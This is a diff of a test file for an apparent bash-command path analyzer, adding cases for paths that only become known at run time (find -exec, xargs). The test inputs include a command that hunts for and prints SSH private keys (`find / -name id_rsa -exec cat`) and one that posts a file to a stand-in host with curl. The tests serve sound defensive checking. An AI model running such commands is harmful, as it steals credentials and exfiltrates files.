@@ -134,6 +134,9 @@ describe("paths a bash command touches are resolved with their modes", () => {
     // In code built from an expansion, the outer shell expanded even what looks quoted inside.
     [`eval "cat '$F'"`, [["/home/u/proj", true]]],
     [`bash -c "cat '$F'"`, [["/home/u/proj", true]]],
+    // Paths found only at run time: what find hands to -exec, what xargs reads from stdin.
+    [`find / -name id_rsa -exec cat {} \\;`, [["/", false], ["/home/u/proj/{}", true]]],
+    ["ls | xargs cat", [["/home/u/proj/(arguments xargs reads from stdin)", true]]],
     [`curl -d @"$F" https://x.example -o '$F'`, [["/home/u/proj", true], ["/home/u/proj", true]]],
   ])("which path words are dynamic: %s", (command, expected) => {
     expect(bash(command).paths.map((p) => [p.path, p.dynamic === true])).toEqual(expected);
